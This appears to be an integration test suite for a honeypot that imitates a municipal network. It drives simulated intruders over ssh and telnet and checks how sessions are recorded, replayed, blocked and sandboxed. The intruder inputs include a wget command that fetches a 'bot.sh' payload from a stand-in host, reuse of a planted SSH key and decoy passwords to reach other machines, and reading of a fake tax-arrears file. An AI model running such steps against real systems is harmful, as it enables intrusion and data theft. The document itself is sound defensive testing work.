#!/usr/bin/env python3
"""decoy_test - an organisation that is not there, and who comes to it.

usage: decoy_test.py DECOY

In a network namespace of its own: `hinomi decoy run` with the town hall, Debian's ssh and plain sockets
as the intruders. What they did is listed, searched, exported and checked; files stay from one visit and
service to the next; a worker that is killed takes nothing along; blocks, caps and proxies hold. Skipped
without namespaces or ssh.
"""
import contextlib
import glob
import json
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import unittest

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import lab  # noqa: E402

DECOY = os.path.abspath(sys.argv[1])
INSIDE = "HINOMI_DECOY_TEST_INSIDE"
SERVER, OTHER, ROUTER, DATABASE = "10.61.1.10", "10.61.1.11", "10.61.1.254", "10.61.1.20"
INTRUDER, SECOND, PROXY = "203.0.113.9", "203.0.113.10", "203.0.113.77"
PATIENCE = 30


def wait_for(what, message, patience=PATIENCE):
    end = time.monotonic() + patience
    while time.monotonic() < end:
        got = what()
        if got:
            return got
        time.sleep(0.05)
    raise AssertionError(message)


def connect(address, port, source=INTRUDER):
    return socket.create_connection((address, port), timeout=PATIENCE, source_address=(source, 0))


def is_refused(address, port, source=INTRUDER):
    try:
        s = connect(address, port, source)
    except (ConnectionRefusedError, ConnectionResetError):
        return True
    with s:
        try:
            return s.recv(1) == b""
        except ConnectionResetError:
            return True


class Telnet:
    """A client that answers no option, and reads until it sees what it waits for."""

    def __init__(self, address, source=INTRUDER):
        self.socket = connect(address, 23, source)
        self.text = b""

    def read_until(self, *wanted):
        end = time.monotonic() + PATIENCE
        while not any(w in self.text for w in wanted) and time.monotonic() < end:
            got = self.socket.recv(65536)
            if not got:
                break
            self.text += got
        found = [w for w in wanted if w in self.text]
        if not found:
            raise AssertionError("%r is not in %r" % (wanted, self.text))
        at = self.text.index(found[0]) + len(found[0])
        seen, self.text = self.text[:at], self.text[at:]
        return seen

    def send(self, line):
        self.socket.sendall(line.encode() + b"\r\n")

    def login(self, user, password):
        self.read_until(b"ogin: ")
        self.send(user)
        self.read_until(b"assword: ")
        self.send(password)
        return self.read_until(b"# ", b"$ ", b"> ", b"incorrect")

    def close(self):
        self.socket.close()


@unittest.skipUnless(lab.possible() and shutil.which("ssh"), "needs network namespaces and ssh")
class Decoy(unittest.TestCase):
    def setUp(self):
        place = tempfile.TemporaryDirectory()
        self.addCleanup(place.cleanup)
        self.place = place.name
        os.chmod(self.place, 0o755)
        self.folder = os.path.join(self.place, "decoy")
        self.askpass = os.path.join(self.place, "askpass")
        with open(self.askpass, "w", encoding="ascii") as file:
            file.write("#!/bin/sh\necho \"$HINOMI_TEST_PASSWORD\"\n")
        os.chmod(self.askpass, 0o755)
        self.process = None
        self.addCleanup(self.kill)

    # ---- the parts ----

    def start(self, *settings):
        argv = [DECOY, "run", "--dir", self.folder, "--set", "recording.seal_interval=200ms",
                "--set", "recording.write_interval=50ms"]
        if os.geteuid() == 0 and not lab.machine_root():
            argv += ["--set", "user=root"]  # a user namespace knows no other
        for setting in settings:
            argv += ["--set", setting]
        log = open(os.path.join(self.place, "log"), "ab")
        self.addCleanup(log.close)
        before = self.log().count("decoy.start")
        self.process = subprocess.Popen(argv, stderr=log)
        wait_for(lambda: self.process.poll() is not None or
                 self.log().count("decoy.start") > before,
                 "it does not start")
        self.assertIsNone(self.process.poll(), self.log())

    def log(self):
        with open(os.path.join(self.place, "log"), encoding="utf-8") as file:
            return file.read()

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        self.assertEqual(self.process.wait(timeout=PATIENCE), 0, self.log())
        self.process = None

    def kill(self):
        if self.process is not None:
            self.process.kill()
            self.process.wait()

    def children(self):
        """Scribe first, then workers."""
        path = "/proc/%d/task/%d/children" % (self.process.pid, self.process.pid)
        with open(path, encoding="ascii") as file:
            return [int(pid) for pid in file.read().split()]

    def decoy(self, *args, status=0):
        done = subprocess.run([DECOY, args[0], "--dir", self.folder, *args[1:]], timeout=60,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False,
                              env=dict(os.environ, LC_ALL="C"))
        self.assertEqual(done.returncode, status, (args, done.stdout, done.stderr))
        return done.stdout.decode("utf-8", "replace")

    def sessions(self, *args):
        lines = self.decoy("list", "--json", *args).splitlines()
        return [json.loads(line) for line in lines]

    def ssh(self, password, target, command, source=INTRUDER, status=0, data=None):
        env = dict(os.environ, HINOMI_TEST_PASSWORD=password, SSH_ASKPASS=self.askpass,
                   SSH_ASKPASS_REQUIRE="force", DISPLAY=":0")
        done = subprocess.run(
            ["ssh", "-F", "none", "-o", "StrictHostKeyChecking=no", "-o",
             "UserKnownHostsFile=" + os.path.join(self.place, "known"), "-o", "LogLevel=ERROR",
             "-o", "NumberOfPasswordPrompts=1", "-b", source, target, command],
            input=data if data is not None else b"", stdout=subprocess.PIPE,
            stderr=subprocess.PIPE, timeout=PATIENCE, env=env, check=False, start_new_session=True)
        if status is not None:
            self.assertEqual(done.returncode, status, done)
        return done.stdout.decode("utf-8", "replace")

    def ended(self, count, *args):
        return wait_for(lambda: [s for s in self.sessions(*args)
                                 if not s["running"]][count - 1:] and self.sessions(*args),
                        "%d sessions do not end" % count)

    # ---- the tests ----

    def test_what_one_writes_is_there_at_the_next_visit(self):
        self.start()
        self.assertEqual(self.ssh("admin", "admin@" + SERVER, "hostname; id -un; pwd"),
                         "ns1\nadmin\n/home/admin\n")
        self.ssh("admin", "admin@" + SERVER, "echo kept > note; printf '\\x7fELF\\x01\\x01' > /tmp/x")
        self.assertEqual(self.ssh("admin", "admin@" + SERVER, "cat note"), "kept\n")
        # another source, and another machine, know nothing of it
        self.assertEqual(self.ssh("admin", "admin@" + SERVER, "cat note", SECOND, status=1), "")
        self.assertEqual(self.ssh("admin", "admin@" + OTHER, "cat note", status=1), "")
        self.ended(5)
        files = self.decoy("files")
        self.assertIn("ELF 32-bit", files)
        digest = re.search(r"\b[0-9a-f]{64}\b", files)[0]
        out = os.path.join(self.place, "taken")
        self.decoy("files", digest, "--output", out, status=2)
        self.decoy("files", digest, "--output", out, "--purpose", "a test of the vault")
        with open(out, "rb") as file:
            self.assertEqual(file.read()[:4], b"\x7fELF")
        for path in glob.glob(self.folder + "/vault/**", recursive=True):
            if os.path.isfile(path):
                with open(path, "rb") as file:
                    self.assertNotIn(b"\x7fELF", file.read(), path)  # it is encrypted
        self.stop()

    def test_sessions_are_listed_played_exported_and_proved(self):
        self.start()
        self.ssh("wrong", "admin@" + SERVER, "true", status=255)
        self.ssh("admin", "admin@" + SERVER, "uname -s; wget -T 1 -t 1 http://198.51.100.1/bot.sh",
                 status=4)
        client = Telnet(ROUTER)
        client.login("admin", "admin")
        client.send("cat /proc/cpuinfo")
        client.close()
        self.ended(3)
        listed = self.sessions()
        self.assertEqual([s["service"] for s in listed], ["telnet", "ssh", "ssh"])
        self.assertEqual([s["login"] for s in listed], [True, True, False])
        self.assertEqual(listed[1]["downloads"], 1)
        self.assertEqual(listed[1]["src"], INTRUDER)
        self.assertEqual(len(self.sessions("--logins")), 2)
        self.assertEqual(len(self.sessions("--service", "telnet")), 1)
        self.assertEqual(len(self.sessions("--word", "wget")), 1)
        self.assertEqual(len(self.sessions("--user", "admin", "--password", "wrong")), 1)
        self.assertEqual(len(self.sessions("--source", "203.0.113.0/24")), 3)
        self.assertEqual(len(self.sessions("--source", "192.0.2.0/24")), 0)
        number = listed[1]["session"]
        played = self.decoy("play", number, "--speed", "0", "--events")
        self.assertIn("Linux", played)
        self.assertIn("http://198.51.100.1", played)
        self.assertRegex(self.decoy("search", "bot.sh", "--typed"), number + r" .* typed .*bot\.sh")
        cast = self.decoy("export", number).splitlines()
        self.assertEqual(json.loads(cast[0])["version"], 2)
        self.assertIn("Linux", "".join(json.loads(line)[2] for line in cast[1:]))
        self.assertIn("198.51.100.1", self.decoy("export", number, "--format", "json"))
        wait_for(lambda: "sessions: 3, whole: 3, not sealed yet: 0, bad: 0," in self.decoy("check"),
                 "they are not sealed")
        self.stop()
        self.decoy("erase", number)
        self.decoy("play", number, status=1)
        self.assertIn("bad: 0,", self.decoy("check"))
        path = sorted(glob.glob(self.folder + "/recordings/*.hrec"))[0]
        with open(path, "r+b") as file:
            file.seek(os.path.getsize(path) // 2)
            byte = file.read(1)
            file.seek(-1, os.SEEK_CUR)
            file.write(bytes([byte[0] ^ 1]))
        self.assertIn("changed", self.decoy("check", status=1))

    def test_what_was_planted_is_seen_when_it_is_used(self):
        """A key that lies about, a password, and a list of names: those of the town hall's file."""
        self.start()
        key = os.path.join(self.place, "key")
        with open(key, "w", encoding="ascii") as file:
            file.write(self.ssh("admin", "admin@" + SERVER, "cat .ssh/id_ed25519_hosyu"))
        os.chmod(key, 0o600)
        done = subprocess.run(
            ["ssh", "-F", "none", "-i", key, "-o", "BatchMode=yes", "-o", "LogLevel=ERROR", "-o",
             "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-b", INTRUDER,
             "admin@" + OTHER, "hostname"], capture_output=True, timeout=PATIENCE, check=False)
        self.assertEqual(done.stdout, b"mail\n", done.stderr)
        self.ssh("Ks-Bk!7203-tsubame", "admin@10.61.1.15", "true")  # where it belongs
        self.ssh("Ks-Bk!7203-tsubame", "admin@" + OTHER, "true", status=255)  # and where not
        self.assertIn(",", self.ssh("zeimu123", "k-ueno@10.61.11.11",
                                    "cat /srv/share/滞納整理/滞納者名簿.csv"))
        self.ended(5)
        listed = self.sessions()
        self.assertEqual([s["honeytoken"] for s in listed], [True, True, True, True, False])
        for session, token in zip(listed, ("tax-arrears", "backup-account", "backup-account",
                                           "maintenance-key")):
            self.assertIn(token, self.decoy("play", session["session"], "--speed", "0", "--events"))
        self.stop()

    def test_a_worker_that_dies_takes_nothing_along(self):
        self.start()
        client = Telnet(ROUTER)
        client.login("admin", "admin")
        client.send("echo before-the-end")
        client.read_until(b"before-the-end\r\n")
        scribe, worker = self.children()
        os.kill(worker, signal.SIGKILL)
        wait_for(lambda: "decoy.worker_died" in self.log(), "nobody notices")
        wait_for(lambda: self.children()[-1] not in (scribe, worker), "no other worker starts")
        self.assertEqual(client.socket.recv(65536), b"")
        client.close()
        self.assertEqual(self.ssh("admin", "admin@" + SERVER, "echo again"), "again\n")
        self.ended(2)
        first = self.sessions()[-1]
        self.assertIn("before-the-end", self.decoy("play", first["session"], "--speed", "0"))
        self.assertIn("bad: 0,", self.decoy("check"))
        self.stop()

    def test_kill_9_loses_nothing_that_was_written(self):
        self.start()
        client = Telnet(ROUTER)
        client.login("admin", "admin")
        client.send("echo still-here")
        client.read_until(b"still-here\r\n")
        number = wait_for(lambda: self.sessions(), "it is not listed")[0]["session"]
        wait_for(lambda: "still-here" in self.decoy("search", "still-here"), "it is not written")
        for pid in [*self.children(), self.process.pid]:  # the scribe first
            with contextlib.suppress(ProcessLookupError):  # without a scribe the others end
                os.kill(pid, signal.SIGKILL)
        self.process.wait()
        client.close()
        self.start()
        wait_for(lambda: self.sessions()[-1]["cut"], "it is not sealed as cut")
        self.assertEqual(self.sessions()[-1]["session"], number)
        self.assertIn("still-here", self.decoy("play", number, "--speed", "0"))
        self.assertIn("bad: 0,", self.decoy("check"))
        # the machines are themselves again: the same keys, so ssh does not complain
        self.ssh("admin", "admin@" + SERVER, "true")
        self.stop()
        self.start()
        self.ssh("admin", "admin@" + SERVER, "true")
        self.stop()

    def test_who_is_blocked_is_not_let_in(self):
        self.start()
        self.decoy("block", INTRUDER)
        self.assertEqual(self.decoy("block"), INTRUDER + "/32\n")
        wait_for(lambda: is_refused(ROUTER, 23), "it is let in")
        self.assertFalse(is_refused(ROUTER, 23, SECOND))
        self.decoy("unblock", INTRUDER)
        wait_for(lambda: not is_refused(ROUTER, 23), "it is kept out")
        self.decoy("unblock", INTRUDER, status=1)
        self.decoy("block", "nonsense", status=1)
        self.stop()

    def test_caps_hold(self):
        self.start("limit.source_sessions=3", "limit.source_day=20")
        held = [Telnet(ROUTER) for _ in range(3)]
        for client in held:
            client.read_until(b"ogin: ")
        self.assertTrue(is_refused(ROUTER, 23))
        self.assertFalse(is_refused(ROUTER, 23, SECOND))
        held.pop().close()
        wait_for(lambda: not is_refused(ROUTER, 23), "the place of one that went is not free")
        while len(held) > 0:
            held.pop().close()
        for _ in range(20):
            is_refused(OTHER, 22)
        slow = Telnet(ROUTER)
        slow.read_until(b"ogin: ")
        begun = time.monotonic()
        slow.send("a" * 20)  # eight bytes a second are heard
        slow.read_until(b"assword: ")
        self.assertGreater(time.monotonic() - begun, 1.5)
        slow.close()
        self.stop()

    def test_ports_are_those_of_the_persona(self):
        self.start()
        with self.assertRaises(ConnectionRefusedError):
            connect(SERVER, 23)
        with self.assertRaises(ConnectionRefusedError):
            connect(ROUTER, 3306)
        with connect(DATABASE, 22) as s:
            self.assertRegex(s.recv(100), rb"^SSH-2\.0-OpenSSH_")
        self.stop()

    def test_connections_come_from_a_proxy(self):
        self.start("proxies=127.0.0.1:7001", "proxy-from=127.0.0.2")

        def by_proxy(source, family=0x11, server=ROUTER, port=23):
            s = socket.create_connection(("127.0.0.1", 7001), timeout=PATIENCE,
                                         source_address=(source, 0))
            body = (socket.inet_aton(PROXY) + socket.inet_aton(server) +
                    struct.pack(">HH", 40000, port))
            s.sendall(b"\r\n\r\n\0\r\nQUIT\n" + bytes([0x21, family]) +
                      struct.pack(">H", len(body)) + body)
            return s

        with by_proxy("127.0.0.2") as s:
            self.assertIn(b"\xff", s.recv(1000))
        with by_proxy("127.0.0.3") as s, self.assertRaises(ConnectionError):
            if s.recv(1000) == b"":
                raise ConnectionResetError
        with by_proxy("127.0.0.2", family=0x12) as s, self.assertRaises(ConnectionError):
            if s.recv(1000) == b"":
                raise ConnectionResetError
        with by_proxy("127.0.0.2", server="192.0.2.1") as s, self.assertRaises(ConnectionError):
            if s.recv(1000) == b"":
                raise ConnectionResetError
        self.ended(1)
        self.assertEqual(self.sessions()[0]["src"], PROXY)
        self.assertEqual(self.sessions()[0]["host"], "rt-core")
        self.stop()

    def test_a_worker_can_open_nothing(self):
        self.start()
        _, worker = self.children()
        with open("/proc/%d/status" % worker, encoding="ascii") as file:
            status = file.read()
        self.assertRegex(status, r"Seccomp:\s+2\b")
        self.assertRegex(status, r"NoNewPrivs:\s+1\b")
        self.assertRegex(status, r"CapEff:\s+0000000000000000\b")
        for fd in os.listdir("/proc/%d/fd" % worker):
            target = os.readlink("/proc/%d/fd/%s" % (worker, fd))
            self.assertRegex(target, r"^(socket:|anon_inode:|/dev/null|pipe:|%s/log)"
                             % re.escape(self.place))
        self.stop()

    def test_mistakes_are_told_in_one_line(self):
        for settings, words in ((["organisation=/nowhere.yaml"], "nowhere.yaml"),
                                (["limit.workers=0"], "limit.workers"),
                                (["proxies=127.0.0.1:7001"], "proxy-from"),
                                (["nonsense=1"], "nonsense")):
            argv = [DECOY, "run", "--dir", self.folder]
            for setting in settings:
                argv += ["--set", setting]
            done = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30,
                                  check=False)
            self.assertIn(done.returncode, (1, 2), settings)
            lines = done.stderr.decode().strip().splitlines()
            self.assertEqual(len(lines), 1, lines)
            self.assertIn(words, lines[0])


def enter():
    """Start again in a network namespace with nothing but a loopback, where all addresses lead here."""
    if os.environ.get(INSIDE) != "yes" and lab.possible():
        mine = ["unshare", "-n"] if os.geteuid() == 0 else ["unshare", "-Urn"]
        os.environ[INSIDE] = "yes"
        os.execvp(mine[0], [*mine, sys.executable, *sys.argv])
    if os.environ.get(INSIDE) == "yes":
        for line in ("link set lo up", "route add local 10.61.0.0/16 dev lo",
                     "addr add %s/32 dev lo" % INTRUDER, "addr add %s/32 dev lo" % SECOND):
            subprocess.run(["ip", *line.split()], check=True)


if __name__ == "__main__":
    enter()
    unittest.main(argv=sys.argv[:1], verbosity=2)
